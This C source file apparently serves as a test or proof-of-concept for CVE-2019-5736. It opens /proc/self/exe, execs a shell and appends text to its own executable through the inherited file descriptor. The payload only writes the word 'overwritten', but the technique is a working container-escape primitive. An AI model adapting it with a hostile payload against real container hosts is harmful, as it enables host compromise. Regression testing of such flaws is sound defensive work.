// SPDX-License-Identifier: GPL-3.0-or-later
/* Overwrites the file of the program that it was started from: holds /proc/self/exe open, becomes another program, and
 * opens what it holds again for writing (CVE-2019-5736). */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

int main(int argc, char **argv)
{
        (void)argv;
        (void)argc;
        int fd = open("/proc/self/exe", O_RDONLY);
        if (fd < 0)
                return 1;
        char command[128];
        snprintf(command, sizeof command, "echo overwritten >>/proc/self/fd/%d", fd);
        execl("/bin/sh", "sh", "-c", command, (char *)NULL);
        return 1;
}
